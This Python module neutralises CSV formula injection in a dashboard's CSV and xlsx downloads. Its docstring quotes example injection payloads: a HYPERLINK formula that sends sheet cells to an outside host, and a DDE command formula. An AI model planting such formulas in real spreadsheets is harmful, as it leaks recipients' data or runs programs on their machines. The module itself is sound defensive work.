"""Files for people (CSV and xlsx opened in a spreadsheet program) that cannot run code: formula ("CSV")
injection neutralised as OWASP recommends (https://owasp.org/www-community/attacks/CSV_Injection).

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is one a spreadsheet program may
read as a formula (`=HYPERLINK("http://x/?leak="&A1,"x")` sends the sheet's cells away when clicked; `=cmd|...`
ran programs through DDE). Such a cell is written with a single quote in front (`'=1+2`), which spreadsheet
programs show as text. Only text is touched:

- a number (int, float, numpy scalar) is written as it is: -0.35 stays the number -0.35;
- a text cell that is a plain number literal ("-0.35", "+1", "-1e-3") is written as it is too: no program
  reads it as anything but that number, and quoting it would turn a number into text;
- everything else (None, NaN, dates, booleans) as it is.

xlsx cells are written as typed cells: numbers as numbers and text always as a string cell (data type 's',
with Excel's quote-prefix style on a cell that begins with one of the characters above), so no cell is ever
a formula whatever its text, and its text is kept exactly (no quote added: an xlsx string cell is not
parsed).

Where this is used: the dashboard's download buttons (pages/kit/widgets.download and the Upload page's
problem list), the responses template (`evalcore template`, the Upload page's template buttons:
evalcore/ingest/template.render). The CLI's `--format csv|json` output of the analysis commands is for
programs and stays raw (a program reading `'=1+2` would get a name that is not the model's).
"""
from __future__ import annotations

import datetime
import io
import math
import numbers
import re

import pandas as pd

from evalcore.core import lazy

# imported when a workbook is written: every page imports this module (its download buttons), and openpyxl took
# 0.13 CPU-s of each page server's first run
openpyxl = lazy.module("openpyxl")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def risky(text: str) -> bool:
    """Whether a text cell would begin a formula in a spreadsheet program (a plain number literal does not)."""
    return text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text)


def safe_cell(value):
    """`value` as it may be written to a CSV for people: a risky text cell with a single quote in front;
    anything that is not text (a number above all) unchanged."""
    if isinstance(value, str) and risky(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame, keep: tuple[str, ...] = ()) -> pd.DataFrame:
    """A copy of `frame` with every text cell and column name through `safe_cell`, except the columns in
    `keep` (written as they are; the caller says why). Numeric columns are left alone."""
    names = list(frame.columns)
    out = frame.copy()
    out.columns = range(len(names))   # by position: a name given twice is still one column each
    for i, col in enumerate(names):
        if col in keep or pd.api.types.is_numeric_dtype(out[i]) or pd.api.types.is_bool_dtype(out[i]):
            continue
        out[i] = out[i].map(safe_cell)
    out.columns = [c if c in keep else safe_cell(c) if isinstance(c, str) else c for c in names]
    return out


def safe_csv(frame: pd.DataFrame, keep: tuple[str, ...] = ()) -> bytes:
    """The frame as CSV bytes for a spreadsheet program: UTF-8 with a BOM, no index, risky text neutralised
    (`safe_frame`), rows ended by CRLF (RFC 4180) so that a cell holding a carriage return is quoted too
    (with the default LF ending Python's csv writer leaves a lone CR unquoted, and a spreadsheet program
    starts a new row there)."""
    return safe_frame(frame, keep).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def _plain(value):
    """A cell value openpyxl writes as data: numpy scalars as Python numbers, a missing value as None."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, float) and math.isnan(value):
        return None
    if hasattr(value, "item") and not isinstance(value, (str, bytes)):  # numpy scalar
        value = value.item()
        if isinstance(value, float) and math.isnan(value):
            return None
    return value


def safe_xlsx(frame: pd.DataFrame, sheet_name: str = "Sheet1") -> bytes:
    """The frame as xlsx bytes: a header row, then one row per record; numbers as numbers, every other cell
    a string cell (data type 's', never a formula), its text unchanged; text that a program would read as a
    formula if typed also gets Excel's quote prefix (shown as text, kept text when edited)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet_name
    rows = [list(frame.columns)] + frame.astype(object).values.tolist()
    for r, row in enumerate(rows, start=1):
        for c, raw in enumerate(row, start=1):
            value = _plain(raw)
            if value is None:
                continue
            cell = ws.cell(row=r, column=c)
            if isinstance(value, (numbers.Number, datetime.date)) and not (
                    isinstance(value, float) and not math.isfinite(value)):
                cell.value = value   # a number (bool, date) stays one
                continue
            text = value if isinstance(value, str) else str(value)
            cell.value = text
            cell.data_type = "s"   # assigning text that begins with '=' made it a formula ('f'): undone
            if text.startswith(TRIGGERS):
                cell.quotePrefix = True
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()
